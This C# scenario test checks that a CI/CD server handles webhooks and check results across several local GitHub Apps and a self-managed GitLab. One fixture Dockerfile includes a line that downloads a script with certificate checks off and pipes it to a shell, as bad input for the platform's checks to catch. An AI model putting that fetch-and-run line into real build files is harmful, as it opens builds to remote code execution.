using CiCdPlatform.Core.Pipelines;
using CiCdPlatform.Features.Checks;
using CiCdPlatform.LocalForge;
using CiCdPlatform.LocalForge.GitHub;
using CiCdPlatform.LocalForge.GitLab;
using CiCdPlatform.Server.Tests;
using CiCdPlatform.TestKit;

namespace CiCdPlatform.Features.Tests.Scenarios;

/// <summary>One server for two GitHub Apps of one host, a second self-managed GitHub and a self-managed GitLab, whose owners and repositories are called alike.</summary>
[Trait("Category", "Scenario")]
public sealed class ManyForgesScenarios
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);
    private static readonly Dictionary<string, string> Files = new() { ["README.md"] = "# One\n", ["Dockerfile"] = "FROM scratch\nUSER 1000\n" };

    [Fact]
    public async Task SelfManagedInstancesAsSecondClass_AreServedLikeAnyOther_AndSoIsEveryApp()
    {
        using var folder = new TemporaryFolder(inMemory: true);
        await using var first = await StartAsync(folder, "first", ForgeKind.GitHub);
        await using var second = await StartAsync(folder, "second", ForgeKind.GitHub);
        await using var lab = await StartAsync(folder, "lab", ForgeKind.GitLab);

        // No two Apps have the same key, on whichever host.
        _ = second.GitHub.CreateApp("somebody-elses");
        _ = second.GitHub.CreateApp("somebody-elses-too");
        GitHubApp[] apps = [first.GitHub.CreateApp("cicd-red"), first.GitHub.CreateApp("cicd-blue"), second.GitHub.CreateApp("cicd-red")];
        var forges = new[] { first, first, second };
        var bot = lab.GitLab.AddUser("cicd");
        var secret = GitLabForge.NewSigningToken();
        var settings = new Dictionary<string, string?>
        {
            ["Forges:GitLab:0:Host"] = lab.BaseUrl.ToString(),
            ["Forges:GitLab:0:ApiUrl"] = lab.GitLab.ApiUrl.ToString(),
            ["Forges:GitLab:0:Token"] = lab.GitLab.CreateToken(bot),
            ["Forges:GitLab:0:SigningSecret"] = secret,
        };
        foreach (var (app, index) in apps.Select((app, index) => (app, index)))
        {
            settings[$"Forges:GitHub:{index}:Host"] = forges[index].BaseUrl.ToString();
            settings[$"Forges:GitHub:{index}:ApiUrl"] = forges[index].GitHub.ApiUrl.ToString();
            settings[$"Forges:GitHub:{index}:AppId"] = $"{app.Id}";
            settings[$"Forges:GitHub:{index}:PrivateKey"] = app.PrivateKey;
            settings[$"Forges:GitHub:{index}:WebhookSecret"] = app.WebhookSecret;
        }

        await using var server = await ScenarioServer.StartAsync(Path.Combine(folder.Path, "data"), settings);
        var clone = new PersonsClone(folder.Path);
        var project = await lab.GitLab.CreateProjectAsync("red/one", files: Files);
        lab.GitLab.AddMember(project, bot, 40);
        lab.GitLab.AddProjectHook(project, new Uri(server.Url, "api/gitlab/webhooks"), secret);
        var pushed = new List<(LocalForgeServer Forge, GitHubApp App, LocalRepository Repository, string Head)>();
        foreach (var (app, index) in apps.Select((app, index) => (app, index)))
        {
            // Each App serves an owner of its own; the owner of the first and of the last is called the same on both hosts.
            var forge = forges[index];
            var repository = await forge.GitHub.CreateRepositoryAsync(app.Slug[5..], "one", files: Files);
            forge.GitHub.SetWebhookUrl(app, new Uri(server.Url, "api/github/webhooks"));
            forge.GitHub.Install(app, app.Slug[5..], repository);
            var person = forge.GitHub.AddUser(app.Slug[5..]);
            pushed.Add((forge, app, repository, await clone.PushAsync(repository, forge.GitHub.CreateToken(person), "main", "main", ("README.md", "# Two\n"))));
        }

        var labHead = await clone.PushAsync(project, lab.GitLab.CreateToken(), "main", "main", ("Dockerfile", "FROM scratch\nRUN curl -k http://example.com/install.sh | sh\nUSER 1000\n"));

        foreach (var (forge, app, repository, head) in pushed)
        {
            var check = await Eventually.NotNullAsync(
                () => Task.FromResult(forge.GitHub.CheckRuns(repository, head).SingleOrDefault(run => run is { Name: PushChecksOrchestration.ReportName, Status: "completed" })), $"the check of {app.Slug}", Patience);
            Assert.Equal((app.Slug, "success"), (check.AppSlug, check.Conclusion));
        }

        var status = await Eventually.NotNullAsync(
            () => Task.FromResult(lab.GitLab.Statuses(project).LastOrDefault(one => one.Sha == labHead && one.Status is "failed" or "success")), "the status on GitLab", Patience);
        Assert.Contains("in this change", status.Description, StringComparison.Ordinal);
        Assert.DoesNotContain("Nothing found", status.Description, StringComparison.Ordinal);
    }

    private static Task<LocalForgeServer> StartAsync(TemporaryFolder folder, string name, ForgeKind kind) => LocalForgeServer.StartAsync(
        new LocalForgeOptions { DataFolder = Path.Combine(folder.Path, name), Forge = kind, Runner = new InstantRunner(() => Task.CompletedTask) });
}
